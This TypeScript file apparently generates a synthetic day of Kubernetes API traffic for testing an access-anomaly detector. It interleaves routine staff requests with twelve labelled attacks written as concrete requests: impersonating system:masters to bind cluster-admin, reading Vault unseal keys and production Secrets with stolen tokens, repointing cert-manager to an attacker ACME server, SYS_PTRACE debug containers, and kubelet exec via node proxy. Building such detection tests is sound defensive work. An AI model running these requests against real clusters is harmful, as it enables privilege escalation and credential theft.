import { attackKit, type AttackRequest, type DayEvent, lastScoredOf, type Login, prng, pushSteps, type StaffMember, type Step, withAttacks } from './workday.js';

/**
 * A twenty-third replayed day, written as an outside red team would after reading docs/risk.md,
 * from situations days 1–22 do not have: a public-sector statistics agency (about 13 people on
 * the gateway) whose production cluster (`kubernetes.prod.stats.agency.example`, vanilla
 * Kubernetes in the agency's own data centre, no Internet egress) is reached only from a shared
 * bastion host: engineers SSH to the jump host and run the kubectl the platform team installed
 * there, each with their own kubelogin cache in their home directory, so forty colleagues share one
 * address and one user agent. Tuesday 8 December 2026 (warm-up Monday 7 December; hours UTC, the
 * agency is in Brussels, UTC+1).
 *
 * Routine, as the tools send it:
 * - the platform team (three admins, PIV smart-card sign-ins: acr aal3, amr sc/hwk/pin): nodes,
 *   every namespace's pods and events, cert-manager's Certificates, last night's Velero backup
 *   checked every morning, RBAC checked by impersonation (`kubectl auth can-i --as=…` and
 *   `kubectl get pods --as=system:serviceaccount:…`), `kubectl debug node/…` once a day, a restore
 *   drill into `restore-drill` every morning by one of them;
 * - two application teams (tax and benefits, three each, two factors): their test namespaces
 *   (reads, logs, Secrets, shells, Deployments patched with their image and the Vault agent
 *   injector's annotations), production read-only outside the change window;
 * - the change window: the CAB-approved release at 19:00 Brussels (18:00 UTC), applied by tax-2
 *   to both teams' production namespaces, with platform-2 on the bridge (a PIV sign-in at 17:50);
 * - the SOC (three analysts on Windows VDI desktops, a non-persistent pool in one /24; the third
 *   on the late shift): Events, Pods, ServiceAccounts and every RBAC object all day;
 * - an external penetration-testing firm, from its fixed address over the site-to-site VPN, with
 *   an access window (09:00–17:00 UTC both days) scoped to the test namespaces and its own
 *   `pentest-sandbox`;
 * - the bastion's kubectl upgraded by the platform's Ansible at 06:30 on the scored day, and the
 *   second jump host (another data centre, another /24) taking over from 12:00 to 13:30 on both
 *   days while the first is patched;
 * - automation: the air-gapped GitLab's runner deploying to both test namespaces every 30 minutes.
 *
 * The attacks, each of a kind days 1–22 do not have:
 * - a colleague on the shared bastion (sudo on the jump host) using tax-1's kubelogin cache: the
 *   same address, the same kubectl, the same token;
 * - malware on the bastion with platform-1's token, impersonating (`--as`) a tax engineer for a
 *   shell in tax-prod and its database Secret, run as the tax engineer;
 * - the same, impersonating Velero's service account (cluster-admin in Velero's install) for the
 *   Vault namespace's unseal keys;
 * - the same, `--as=system:admin --as-group=system:masters` binding cluster-admin;
 * - a Velero Restore of tax-prod's Secrets into the pentest firm's sandbox namespace, with
 *   platform-3's smart-card sign-in ten minutes after their restore drill;
 * - the cert-manager ClusterIssuer repointed to the attacker's ACME server during the change
 *   window, with platform-2's smart-card sign-in eight minutes old;
 * - an ephemeral debug container with SYS_PTRACE in a production pod (kubectl debug's
 *   strategic-merge PATCH of `ephemeralcontainers`), and the same by a JSON patch;
 * - the Vault agent injector's annotations on benefits' test Deployment changed to render tax
 *   production's database secret into the pod (the Vault role's policy is broader than its name);
 * - a SOC analyst's token (a VDI desktop left signed in) reading production Secrets;
 * - the kubelet's API through the API server's node proxy (`nodes/proxy`), with the SOC's token;
 * - the pentest firm's account outside its scope: production Secrets during the window.
 */

export const D23_MON = Date.UTC(2026, 11, 7, 0, 0, 0); // warm-up
export const D23_TUE = Date.UTC(2026, 11, 8, 0, 0, 0); // scored
const [H, M, S] = [3_600_000, 60_000, 1000];

export const API = 'kubernetes.prod.stats.agency.example';

/**
 * The site's edit of the example (session 50): the certificate authorities its cert-manager issuers
 * use, in `guardrails.certificate_authorities` (the example lists none: it cannot know a company's
 * PKI): Let's Encrypt for public names, the agency's own ACME and Vault PKI hosts, its root CA's key
 * pair Secret. The attacker's `acme.stats-agency-pki.example` is none of them. Inserted before
 * `host_owners` in the guardrails section; nothing else is changed.
 */
export function SITE(yaml: string): string {
  const owners = '\n  host_owners:\n';
  const at = yaml.indexOf(owners);
  if (at < 0) throw new Error('day 23: the example no longer has guardrails.host_owners');
  const authorities = '  certificate_authorities: [acme-v02.api.letsencrypt.org, "*.pki.stats.agency.example", "secret:agency-root-ca"]\n';
  return `${yaml.slice(0, at + 1)}${authorities}${yaml.slice(at + 1)}`;
}
/** The jump hosts: the first, and the second in the other data centre (12:00–13:30 both days). */
export const BASTION = '172.20.4.10';
export const BASTION_2 = '172.21.4.10';
/** The SOC's non-persistent VDI pool: a desktop's address is any of the /24. */
export const SOC_VDI = (n: number) => `172.22.8.${40 + (n % 180)}`;
/** The pentest firm's fixed egress, over the site-to-site VPN. */
export const PENTEST = '198.51.100.23';
export const KUBECTL = (os: string, v = 'v1.31.4', commit = 'a78aa47') => `kubectl/${v} (${os}) kubernetes/${commit}`;
/** The bastion's kubectl (RHEL 9), upgraded by Ansible at 06:30 on the scored day. */
export const BASTION_KUBECTL = (scored: boolean, t: number, day: number) => (scored && t - day > 6.5 * H ? KUBECTL('linux/amd64', 'v1.31.4', 'a78aa47') : KUBECTL('linux/amd64', 'v1.30.6', '00f20d4'));
export const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
export const MERGE = { 'content-type': 'application/merge-patch+json' };
export const JSON_PATCH = { 'content-type': 'application/json-patch+json' };
export const JSON_CT = { 'content-type': 'application/json' };

type Kind = 'platform' | 'tax' | 'benefits' | 'soc' | 'pentest';
type Sitting = [number, number, 'site'];

interface Person extends StaffMember<'site'> {
  short: string;
  kind: Kind;
  /** A PIV smart-card sign-in (the platform team). */
  piv?: boolean;
}

const AGENCY = 'stats.agency.example';

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, day: [number, number][], o: Partial<Person> = {}, jitter = true) => {
    const j = () => (jitter ? (rand() - 0.5) * 0.3 : 0);
    const jit = (s: [number, number][]): Sitting[] => s.map(([a, b]) => [Math.max(0, a + j()), Math.min(23.9, b + j()), 'site']);
    out.push({ name: `d23-${short}@${kind === 'pentest' ? 'redline-security.example' : AGENCY}`, short, idx: out.length, svc: kind, kind, os: 'linux', kubectlOs: 'linux/amd64', kubectlVersion: 'v1.31.4', warm: jit(day), scored: jit(day), ...o });
  };
  add('platform-1', 'platform', [[7, 15.5]], { piv: true });
  add('platform-2', 'platform', [[7.5, 12], [17.83, 19.3]], { piv: true });
  add('platform-3', 'platform', [[6.8, 15]], { piv: true });
  add('tax-1', 'tax', [[7.2, 15.8]]);
  add('tax-2', 'tax', [[8, 12.5], [17.85, 19.4]]);
  add('tax-3', 'tax', [[7.5, 16]]);
  add('benefits-1', 'benefits', [[7.4, 15.6]]);
  add('benefits-2', 'benefits', [[8.1, 16.4]]);
  add('benefits-3', 'benefits', [[7.8, 12], [12.8, 16.2]]);
  add('soc-1', 'soc', [[6, 14.2]]);
  add('soc-2', 'soc', [[7, 15.2]]);
  add('soc-3', 'soc', [[14, 22]]);
  add('pentest', 'pentest', [[9, 17]], {}, false);
  return out;
}

type Req = { method: string; path: string; headers?: Record<string, string>; body?: string };

const TEAMS = ['tax', 'benefits'] as const;
const ALL_NS = ['tax-prod', 'tax-test', 'benefits-prod', 'benefits-test', 'vault', 'cert-manager', 'velero', 'ingress-nginx', 'pentest-sandbox', 'kube-system'];
const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const VELERO = '/apis/velero.io/v1/namespaces/velero';

/** A team's Deployment as kubectl apply sends it: its image and the Vault agent injector's annotations. */
export function vaultDeployment(team: string, ns: string, image: string, secretPath = `secret/data/${ns}/db`): object {
  return {
    spec: {
      template: {
        metadata: {
          annotations: {
            'vault.hashicorp.com/agent-inject': 'true',
            'vault.hashicorp.com/role': `${team}-api`,
            'vault.hashicorp.com/agent-inject-secret-db': secretPath,
            'vault.hashicorp.com/agent-inject-template-db': '{{- with secret "' + secretPath + '" -}}postgres://{{ .Data.data.username }}:{{ .Data.data.password }}@db:5432/app{{- end }}',
          },
        },
        spec: { containers: [{ name: 'api', image }] },
      },
    },
  };
}

/** `kubectl auth can-i` as someone else: a SelfSubjectAccessReview with the Impersonate-User header. */
function canI(user: string, ns: string, verb: string, resource: string): Req {
  const body = { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectAccessReview', spec: { resourceAttributes: { namespace: ns, verb, resource } } };
  return { method: 'POST', path: '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', headers: { ...JSON_CT, 'impersonate-user': user }, body: JSON.stringify(body) };
}

function platformTask(rand: () => number, p: Person, n: number): Req[] {
  const k = rand();
  const ns = ALL_NS[Math.floor(rand() * ALL_NS.length)]!;
  const team = TEAMS[Math.floor(rand() * 2)]!;
  if (n === 0) return [{ method: 'GET', path: `${VELERO}/backups?limit=500` }, { method: 'GET', path: `${VELERO}/schedules/nightly` }];
  if (k < 0.22) return [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/api/v1/pods?limit=500' }];
  if (k < 0.36) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.46) return [{ method: 'GET', path: '/apis/cert-manager.io/v1/certificates?limit=500' }, { method: 'GET', path: '/apis/cert-manager.io/v1/clusterissuers' }];
  if (k < 0.58) {
    // An access request from a team: what can they do? (`kubectl auth can-i … --as=…`)
    const who = `d23-${team}-${1 + Math.floor(rand() * 3)}@${AGENCY}`;
    return [canI(who, `${team}-prod`, rand() < 0.5 ? 'get' : 'create', rand() < 0.5 ? 'secrets' : 'pods/exec'), { method: 'GET', path: `${RBAC}/namespaces/${team}-prod/rolebindings` }];
  }
  if (k < 0.66) {
    // A workload's view of the cluster, as its service account sees it.
    return [{ method: 'GET', path: `/api/v1/namespaces/${team}-prod/pods?limit=500`, headers: { 'impersonate-user': `system:serviceaccount:${team}-prod:${team}-api` } }];
  }
  if (k < 0.74) return [{ method: 'GET', path: `/api/v1/namespaces/${team}-prod/pods/${team}-api-0/log?container=vault-agent&tailLines=200` }];
  if (k < 0.82) return [{ method: 'GET', path: '/apis/cert-manager.io/v1/namespaces/cert-manager/certificates' }, { method: 'GET', path: '/api/v1/namespaces/cert-manager/pods' }];
  if (k < 0.9) return [{ method: 'GET', path: `${RBAC}/clusterrolebindings?limit=500` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${p.short === 'platform-3' ? 'velero' : 'ingress-nginx'}/pods?limit=500` }];
}

function teamTask(rand: () => number, p: Person, scored: boolean, n: number): Req[] {
  const k = rand();
  const team = p.kind;
  const ns = rand() < 0.7 ? `${team}-test` : `${team}-prod`;
  const pod = `${team}-api-${['0', '1', '2'][Math.floor(rand() * 3)]}`;
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod}/log?container=api&tailLines=300` }];
  if (k < 0.42) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.52) return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }];
  if (k < 0.62) {
    const tag = `${scored ? '2.14' : '2.13'}.${n}`;
    return [{ method: 'PATCH', path: `/apis/apps/v1/namespaces/${team}-test/deployments/${team}-api?fieldManager=kubectl-client-side-apply`, headers: SMP, body: JSON.stringify(vaultDeployment(team, `${team}-test`, `registry.stats.agency.example/${team}/api:${tag}`)) }];
  }
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/namespaces/${team}-test/secrets/${team}-api-config` }];
  if (k < 0.76) return [{ method: 'POST', path: `/api/v1/namespaces/${team}-test/pods/${pod}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true` }];
  if (k < 0.84) return [{ method: 'GET', path: `/api/v1/namespaces/${team}-test/configmaps` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/services` }, { method: 'GET', path: `/apis/networking.k8s.io/v1/namespaces/${ns}/ingresses` }];
}

function socTask(rand: () => number): Req[] {
  const k = rand();
  const ns = ALL_NS[Math.floor(rand() * ALL_NS.length)]!;
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/events?limit=500&fieldSelector=type%3DWarning' }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/pods?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.65) return [{ method: 'GET', path: `${RBAC}/clusterrolebindings?limit=500` }, { method: 'GET', path: `${RBAC}/clusterroles?limit=500` }];
  if (k < 0.8) return [{ method: 'GET', path: `${RBAC}/namespaces/${ns}/rolebindings` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/serviceaccounts` }];
  if (k < 0.9) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  return [{ method: 'GET', path: '/apis/networking.k8s.io/v1/networkpolicies?limit=500' }];
}

function pentestTask(rand: () => number): Req[] {
  const k = rand();
  const ns = ['tax-test', 'benefits-test', 'pentest-sandbox'][Math.floor(rand() * 3)]!;
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/services` }];
  if (k < 0.45) return [{ method: 'POST', path: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', headers: JSON_CT, body: JSON.stringify({ apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace: ns } }) }];
  if (k < 0.6) return [{ method: 'GET', path: '/api/v1/namespaces/pentest-sandbox/secrets/tooling' }];
  if (k < 0.72) return [{ method: 'POST', path: '/api/v1/namespaces/pentest-sandbox/pods/toolbox-0/exec?command=bash&container=toolbox&stdin=true&stdout=true&tty=true' }];
  if (k < 0.86) return [{ method: 'GET', path: `/apis/networking.k8s.io/v1/namespaces/${ns}/networkpolicies` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps` }];
}

/** kubectl debug node/… --profile=sysadmin: a pod on that node in its namespaces, privileged, the node's root mounted. */
export function nodeDebugPod(node: string, suffix: string): object {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: `node-debugger-${node}-${suffix}`, namespace: 'default' },
    spec: {
      nodeName: node,
      hostIPC: true,
      hostNetwork: true,
      hostPID: true,
      restartPolicy: 'Never',
      containers: [{ name: 'debugger', image: 'registry.stats.agency.example/mirror/busybox:1.36', stdin: true, tty: true, securityContext: { privileged: true }, volumeMounts: [{ name: 'host-root', mountPath: '/host' }] }],
      volumes: [{ name: 'host-root', hostPath: { path: '/' } }],
    },
  };
}

/** A Velero Restore of `from`'s Secrets (and everything else) into `to`. */
export function restore(name: string, backup: string, from: string, to: string): object {
  return { apiVersion: 'velero.io/v1', kind: 'Restore', metadata: { name, namespace: 'velero' }, spec: { backupName: backup, includedNamespaces: [from], namespaceMapping: { [from]: to }, restorePVs: false } };
}

export function workday23(seed = 211): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 23);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const [day, scored] of [[D23_MON, false], [D23_TUE, true]] as const) {
    const at = (h: number) => day + h * H;
    // The second jump host takes over while the first is patched.
    const bastionAt = (t: number) => ((t - day) / H >= 12 && (t - day) / H < 13.5 ? BASTION_2 : BASTION);
    for (const p of people) {
      const mine: DayEvent[] = [];
      const soc = p.kind === 'soc';
      const ext = p.kind === 'pentest';
      const ipOf = (t: number) => (soc ? SOC_VDI(p.idx * 31 + Math.floor(rand() * 170)) : ext ? PENTEST : bastionAt(t));
      const uaOf = (t: number) => (soc ? KUBECTL('windows/amd64', 'v1.31.2', '5864a46') : ext ? KUBECTL('linux/amd64', 'v1.32.0', '70d3cc9') : BASTION_KUBECTL(scored, t, day));
      const push = (t: number, q: Req, l: Login) => mine.push({ at: Math.round(t), actor: p.name, scored, ip: ipOf(t), ua: uaOf(t), login: l, method: q.method, path: q.path, host: API, ...(q.headers ? { headers: q.headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) });
      let n = 0;
      let login: Login | undefined;
      let last = -Infinity;
      const logins: Login[] = [];
      for (const [from, to] of scored ? p.scored : p.warm) {
        if (login === undefined || from - last > 2) {
          login = { sub: p.name, sid: `${p.name}:${day}:${Math.round(from * 10)}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr: p.piv ? 'urn:stepgate:aal3' : 'urn:stepgate:aal2', ...(p.piv ? { claims: { amr: ['sc', 'hwk', 'pin', 'mfa'] } } : {}) };
          logins.push(login);
        }
        last = to;
        const l = login;
        let t = at(from) + M;
        const bridge = from > 17;
        while (t < at(to)) {
          const h = (t - day) / H;
          if (h >= 11.5 && h < 12.1 && from < 11.5 && to > 12.1) {
            t = at(12.1) + S;
            continue;
          }
          const reqs = bridge
            ? [{ method: 'GET', path: `/api/v1/namespaces/${TEAMS[n % 2]}-prod/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${TEAMS[n % 2]}-prod/events?limit=500` }]
            : p.kind === 'platform' ? platformTask(rand, p, n) : p.kind === 'soc' ? socTask(rand) : p.kind === 'pentest' ? pentestTask(rand) : teamTask(rand, p, scored, n);
          n++;
          const gap = 1500 + rand() * 2500;
          reqs.forEach((q, i) => push(t + i * gap, q, l));
          t += soc ? 3 * M + rand() * 6 * M : 5 * M + rand() * 12 * M;
        }
      }
      const first = logins[0]!;
      const evening = logins[1];
      const step = (steps: Step[], l = first) => pushSteps(mine, { actor: p.name, scored, ip: BASTION, ua: BASTION_KUBECTL(scored, at(7), day), login: l, host: API }, at, steps);
      if (p.short === 'platform-1') {
        // A node's kernel logs, once a day: kubectl debug node/… --profile=sysadmin, then a shell in it.
        const node = scored ? 'worker-07' : 'worker-03';
        const h = 10.2 + rand() * 0.4;
        step([
          [h, 'POST', '/api/v1/namespaces/default/pods?fieldManager=kubectl-debug', JSON_CT, JSON.stringify(nodeDebugPod(node, scored ? 'x7k2p' : 'm4q9z'))],
          [h + 0.005, 'GET', `/api/v1/namespaces/default/pods/node-debugger-${node}-${scored ? 'x7k2p' : 'm4q9z'}/attach?container=debugger&stdin=true&stdout=true&tty=true`],
          [h + 0.2, 'DELETE', `/api/v1/namespaces/default/pods/node-debugger-${node}-${scored ? 'x7k2p' : 'm4q9z'}`],
        ]);
      }
      if (p.short === 'platform-3') {
        // The morning restore drill: last night's backup of tax-test into restore-drill, checked, removed.
        const name = `drill-${scored ? '1208' : '1207'}`;
        step([
          [10.5, 'GET', `${VELERO}/backups/nightly-${scored ? '20261208' : '20261207'}010000`],
          [10.51, 'POST', `${VELERO}/restores?fieldManager=velero-cli`, JSON_CT, JSON.stringify(restore(name, `nightly-${scored ? '20261208' : '20261207'}010000`, 'tax-test', 'restore-drill'))],
          [10.6, 'GET', `${VELERO}/restores/${name}`],
          [10.62, 'GET', '/api/v1/namespaces/restore-drill/pods?limit=500'],
          [10.75, 'DELETE', '/api/v1/namespaces/restore-drill/secrets/tax-api-config'],
        ]);
      }
      if (p.short === 'tax-2' && evening) {
        // The CAB-approved release, 19:00 Brussels: both teams' production Deployments, Vault annotations as in test.
        const rel = (team: string, h: number): Step => [h, 'PATCH', `/apis/apps/v1/namespaces/${team}-prod/deployments/${team}-api?fieldManager=kubectl-client-side-apply`, SMP, JSON.stringify(vaultDeployment(team, `${team}-prod`, `registry.stats.agency.example/${team}/api:${scored ? '2.14.0' : '2.13.9'}`))];
        step([
          rel('tax', 18.02),
          [18.05, 'GET', '/apis/apps/v1/namespaces/tax-prod/deployments/tax-api'],
          rel('benefits', 18.2),
          [18.23, 'GET', '/apis/apps/v1/namespaces/benefits-prod/deployments/benefits-api'],
        ], evening);
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    // The air-gapped GitLab's runners (the pool's pods, in the example's trusted 10.0.0.0/8): a test deploy every 30 minutes per team.
    const ci: Login = { sub: 'system:serviceaccount:gitlab-runners:deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
    for (let j = 0; j < 20; j++) {
      for (const [i, team] of TEAMS.entries()) {
        const t = day + 7 * H + j * 30 * M + i * 11 * M;
        const base = { actor: 'ci', scored, ip: `10.50.${(j + i) % 4}.${11 + ((j * 7 + i) % 40)}`, ua: KUBECTL('linux/amd64', 'v1.30.6', '00f20d4'), login: ci, host: API };
        events.push({ ...base, at: t, method: 'PATCH', path: `/apis/apps/v1/namespaces/${team}-test/deployments/${team}-api?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: `registry.stats.agency.example/${team}/api:ci-${(seed * 7919 + j * 104729).toString(16).slice(0, 7)}` }] } } } }) });
        events.push({ ...base, at: t + 30 * S, method: 'GET', path: `/apis/apps/v1/namespaces/${team}-test/deployments/${team}-api` });
      }
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks23(people, events));
}

/** kubectl debug's ephemeral container: the target's process namespace, SYS_PTRACE to read its memory. */
export function ptraceContainer(name: string, target: string): object {
  return { name, image: 'registry.stats.agency.example/mirror/busybox:1.36', command: ['sh'], stdin: true, tty: true, targetContainerName: target, securityContext: { capabilities: { add: ['SYS_PTRACE'] } } };
}

function attacks23(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D23_TUE, API);
  const onBastion = (x: DayEvent) => x.ip === BASTION;

  // 1. A colleague on the shared bastion (a contractor with sudo there for the log shipper) copies
  // tax-1's kubelogin cache at 10:30 and uses it from the same jump host: the same address, the
  // same kubectl, tax-1's token. tax-prod's Secrets, its database's, a shell in the API.
  const tax1 = by('tax-1');
  const v1 = lastScoredOf(routine, tax1.name, T(10.5), onBastion);
  add("a colleague on the shared bastion using tax-1's kubelogin cache (same address, same kubectl)", T(10.5), BASTION, v1.ua, v1.login, on([
    ['GET', '/api/v1/namespaces/tax-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/tax-prod/secrets', true],
    ['GET', '/api/v1/namespaces/tax-prod/secrets/tax-db', true],
    ['POST', '/api/v1/namespaces/tax-prod/pods/tax-api-0/exec?command=sh&container=api&stdin=true&stdout=true&tty=true', true],
  ]), 20 * S, tax1);

  // 2–4. Malware on the bastion (root through an unpatched sudo) with platform-1's token, at 14:10:
  // platform-1 may impersonate the teams and their service accounts (the access reviews above).
  const p1 = by('platform-1');
  const v2 = lastScoredOf(routine, p1.name, T(14.16), onBastion);
  const asTax = { 'impersonate-user': `d23-tax-3@${AGENCY}`, 'impersonate-group': 'agency:tax-developers' };
  add("platform-1's token on the bastion impersonating a tax engineer (--as) for tax-prod's database Secret and a shell", T(14.16), BASTION, v2.ua, v2.login, on([
    ['GET', '/api/v1/namespaces/tax-prod/pods?limit=500', false, asTax],
    ['GET', '/api/v1/namespaces/tax-prod/secrets/tax-db', true, asTax],
    ['POST', '/api/v1/namespaces/tax-prod/pods/tax-api-1/exec?command=sh&container=api&stdin=true&stdout=true&tty=true', true, asTax],
  ]), 15 * S, p1);
  const asVelero = { 'impersonate-user': 'system:serviceaccount:velero:velero' };
  add("platform-1's token impersonating Velero's service account (cluster-admin in its install) for the Vault namespace's unseal keys", T(14.3), BASTION, v2.ua, v2.login, on([
    ['GET', '/api/v1/namespaces/vault/pods', false, asVelero],
    ['GET', '/api/v1/namespaces/vault/secrets', true, asVelero],
    ['GET', '/api/v1/namespaces/vault/secrets/vault-unseal-keys', true, asVelero],
  ]), 10 * S, p1);
  const asMasters = { 'impersonate-user': 'system:admin', 'impersonate-group': 'system:masters' };
  add("platform-1's token as system:admin in system:masters (--as --as-group) binding cluster-admin", T(14.4), BASTION, v2.ua, v2.login, on([
    ['GET', `${RBAC}/clusterrolebindings`, false, asMasters],
    ['POST', `${RBAC}/clusterrolebindings?fieldManager=kubectl-create`, true, { ...JSON_CT, ...asMasters }, JSON.stringify({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'log-shipper-debug' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'svc-logship', apiGroup: 'rbac.authorization.k8s.io' }] })],
  ]), 10 * S, p1);

  // 5. Malware on the bastion with platform-3's token ten minutes after their restore drill (a
  // smart-card sign-in asked for it): a Restore of tax-prod into the pentest firm's sandbox, where
  // the firm's account reads Secrets.
  const p3 = by('platform-3');
  const v5 = lastScoredOf(routine, p3.name, T(10.68), onBastion);
  add("a Velero Restore of tax-prod's Secrets into the pentest firm's sandbox, ten minutes after the restore drill's smart-card sign-in", T(10.68), BASTION, v5.ua, v5.login, on([
    ['GET', `${VELERO}/backups?limit=500`, false],
    ['POST', `${VELERO}/restores?fieldManager=velero-cli`, true, JSON_CT, JSON.stringify(restore('tax-prod-verify', 'nightly-20261208010000', 'tax-prod', 'pentest-sandbox'))],
  ]), 20 * S, p3);

  // 6. The change window: platform-2 signs in with the smart card at 17:50 for the release; at
  // 17:58 malware on the bastion with that token points the ClusterIssuer every Ingress uses at the
  // attacker's ACME server (a certificate for any name, the agency's included).
  const p2 = by('platform-2');
  const v6 = lastScoredOf(routine, p2.name, T(18), onBastion);
  const t6 = (v6.login.authTime ?? 0) * 1000 + 8 * M;
  add("the cert-manager ClusterIssuer repointed to the attacker's ACME server in the change window, eight minutes after the admin's smart-card sign-in", t6, BASTION, v6.ua, v6.login, on([
    ['GET', '/apis/cert-manager.io/v1/clusterissuers/agency-acme', false],
    ['PATCH', '/apis/cert-manager.io/v1/clusterissuers/agency-acme?fieldManager=kubectl-patch', true, MERGE, JSON.stringify({ spec: { acme: { server: 'https://acme.stats-agency-pki.example/directory', skipTLSVerify: true } } })],
  ]), 30 * S, p2);

  // 7, 8. Malware on the bastion with tax-3's token at 13:40: an ephemeral container with
  // SYS_PTRACE beside the tax API in production (the process's memory holds the database password
  // Vault's agent rendered), as kubectl debug sends it, then the same by a JSON patch.
  const tax3 = by('tax-3');
  const v7 = lastScoredOf(routine, tax3.name, T(13.66), (x) => x.ua.startsWith('kubectl/'));
  add('an ephemeral debug container with SYS_PTRACE in a tax-prod pod (kubectl debug, strategic-merge PATCH)', T(13.66), v7.ip, v7.ua, v7.login, on([
    ['GET', '/api/v1/namespaces/tax-prod/pods/tax-api-2', false],
    ['PATCH', '/api/v1/namespaces/tax-prod/pods/tax-api-2/ephemeralcontainers', true, SMP, JSON.stringify({ spec: { ephemeralContainers: [ptraceContainer('debugger-q8z2w', 'api')] } })],
    ['GET', '/api/v1/namespaces/tax-prod/pods/tax-api-2/attach?container=debugger-q8z2w&stdin=true&stdout=true&tty=true', true],
  ]), 10 * S, tax3);
  add('an ephemeral debug container with SYS_PTRACE in a tax-prod pod (JSON patch of ephemeralcontainers)', T(13.8), v7.ip, v7.ua, v7.login, on([
    ['PATCH', '/api/v1/namespaces/tax-prod/pods/tax-api-1/ephemeralcontainers', true, JSON_PATCH, JSON.stringify([{ op: 'add', path: '/spec/ephemeralContainers/-', value: ptraceContainer('debugger-m3v7c', 'api') }])],
  ]), 10 * S, tax3);

  // 9. Malware on the bastion with benefits-1's token at 09:40: benefits' test Deployment, which
  // the engineer patches every day, now has the Vault agent render tax production's database
  // secret (the benefits-api role's Vault policy reads secret/data/* : too broad); its logs next.
  const ben1 = by('benefits-1');
  const v9 = lastScoredOf(routine, ben1.name, T(9.66), onBastion);
  add("the Vault agent injector's annotations on benefits' test Deployment changed to render tax production's database secret", T(9.66), BASTION, v9.ua, v9.login, on([
    ['PATCH', '/apis/apps/v1/namespaces/benefits-test/deployments/benefits-api?fieldManager=kubectl-client-side-apply', true, SMP, JSON.stringify(vaultDeployment('benefits', 'benefits-test', 'registry.stats.agency.example/benefits/api:2.14.3', 'secret/data/tax-prod/db'))],
    ['POST', '/api/v1/namespaces/benefits-test/pods/benefits-api-0/exec?command=cat&command=%2Fvault%2Fsecrets%2Fdb&container=api&stdout=true', true],
  ]), 90 * S, ben1);

  // 10. soc-2's VDI desktop left signed in over lunch at 11:50 (the pool's next user is a
  // contractor): the SOC's token reading production Secrets from the same VDI range.
  const soc2 = by('soc-2');
  const v10 = lastScoredOf(routine, soc2.name, T(11.83), () => true);
  add("a SOC analyst's token (a VDI desktop left signed in) reading production Secrets", T(11.83), v10.ip, v10.ua, v10.login, on([
    ['GET', '/api/v1/namespaces/benefits-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/benefits-prod/secrets', true],
    ['GET', '/api/v1/namespaces/benefits-prod/secrets/benefits-db', true],
  ]), 15 * S, soc2);

  // 11. The same desktop: the kubelet's API through the API server's node proxy (the SOC's role
  // has nodes/proxy get for the kubelet's metrics): every pod's spec with its environment, then
  // the kubelet's exec over a WebSocket.
  add("the kubelet's API through the node proxy with the SOC's token (pods' environment, then exec)", T(11.9), v10.ip, v10.ua, v10.login, on([
    ['GET', '/api/v1/nodes?limit=500', false],
    ['GET', '/api/v1/nodes/worker-04/proxy/pods', true],
    ['GET', '/api/v1/nodes/worker-04:10250/proxy/exec/tax-prod/tax-api-0/api?command=env&output=1', true, { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'v4.channel.k8s.io' }],
  ]), 10 * S, soc2);

  // 12. The pentest firm's account, inside its window but outside its scope, at 15:00: production's
  // Secrets, from the firm's fixed address.
  const pt = by('pentest');
  const v12 = lastScoredOf(routine, pt.name, T(15), () => true);
  add("the pentest firm's account outside its scope: tax production's Secrets", T(15), PENTEST, v12.ua, v12.login, on([
    ['GET', '/api/v1/namespaces/tax-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/tax-prod/secrets', true],
  ] satisfies AttackRequest[]), 20 * S, pt);
  return out;
}
